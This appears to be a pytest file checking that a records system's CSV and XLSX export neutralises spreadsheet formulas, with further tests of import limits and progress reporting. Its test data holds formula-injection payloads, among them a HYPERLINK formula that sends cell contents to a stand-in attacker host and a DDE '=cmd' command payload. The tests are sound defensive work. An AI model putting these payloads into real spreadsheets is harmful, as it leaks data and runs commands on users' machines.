"""No formula, ever (issue 17.4): cells that a spreadsheet would evaluate are written as text in
XLSX and made inert in CSV, and import restores them exactly."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from engine.inventory import sheets
from engine.inventory.exporting import export_file
from engine.inventory.importing import import_file
from engine.lifecycle.services import create_agreement, list_agreements, show

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62 541 661001",
    "-5 tahun pertama",
    "@SUM(A1:A2)",
    "'=already quoted",
    "'plain apostrophe",
    "=1+1",
]


@pytest.mark.parametrize("value", HOSTILE + ["biasa", "", None, 5])
def test_inert_csv_and_restore_are_exact_inverses(value):
    assert sheets.restore_csv(sheets.inert_csv(value)) == value


def test_inert_csv_starts_no_cell_with_a_formula_character():
    for value in HOSTILE + ["\tTAB", "\rCR"]:
        assert not sheets.inert_csv(value).startswith(sheets.FORMULA_STARTS)


def _add_hostile(ctx):
    refs = []
    for title in HOSTILE:
        refs.append(create_agreement(ctx, "admin", title=title, partner="=cmd|' /C calc'!A0", opd="DKP", values={"document_kind": "KB"})["id"])
    return refs


def test_csv_and_xlsx_round_trip_hostile_titles_exactly(ctx, second_ctx, tmp_path):
    refs = _add_hostile(ctx)
    out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
    export_file(ctx, out_csv)
    export_file(ctx, out_xlsx)

    with open(out_csv, encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            for cell in row.values():
                assert not cell.startswith(sheets.FORMULA_STARTS), cell
    wb = openpyxl.load_workbook(out_xlsx)
    ws = wb[sheets.SHEET_NAME]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    titles = {ws.cell(row=r, column=6).value for r in range(2, ws.max_row + 1)}
    assert set(HOSTILE) <= titles

    for path in (out_xlsx, out_csv):
        result = import_file(second_ctx, path, "admin")
        assert not result.problems
        for ref, title in zip(refs, HOSTILE):
            shown = show(second_ctx, ref)
            assert shown["title"] == title.strip()
            assert shown["partner"] == "=cmd|' /C calc'!A0"
    assert len(list_agreements(second_ctx)) == len(HOSTILE)


def test_the_xlsx_report_holds_no_formula(ctx, tmp_path):
    from engine.inventory import reports

    _add_hostile(ctx)
    out = tmp_path / "r.xlsx"
    reports.write_xlsx(reports.build(ctx), out)
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.value)


def test_import_limits_are_enforced_while_reading(ctx, tmp_path):
    from engine.errors import InvalidInput

    long = tmp_path / "long.csv"
    long.write_text("id,workflow,state,title,partner,lead_opd\n,kerja-sama,proposed," + "x" * 131_073 + ",P,DKP\n")
    with pytest.raises(InvalidInput, match="baris 2: sebuah sel berisi lebih dari 32.767 karakter"):
        import_file(ctx, long, "admin")
    many = tmp_path / "many.csv"
    many.write_text("id,workflow,state,title,partner,lead_opd\n"
                    + "".join(f",kerja-sama,proposed,KB {i},P,DKP\n" for i in range(12)))
    conf = tmp_path / "limit.toml"
    conf.write_text("[import]\nmax_rows = 10\n")
    from engine.bootstrap import bootstrap

    import os
    limited = bootstrap({**os.environ, "TKKSD_DATABASE_URL": str(ctx.engine.url), "TKKSD_CONFIG": str(conf)})
    with pytest.raises(InvalidInput, match="lebih dari 10 baris"):
        import_file(limited, many, "admin", dry_run=True)
    limited.engine.dispose()
    assert list_agreements(ctx) == []


def test_import_reports_progress(ctx, tmp_path):
    many = tmp_path / "many.csv"
    many.write_text("id,workflow,state,title,partner,lead_opd\n"
                    + "".join(f",kerja-sama,proposed,KB {i},P,DKP\n" for i in range(2500)))
    seen = []
    import_file(ctx, many, "admin", dry_run=True, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1000, 2500), (2000, 2500), (2500, 2500)]
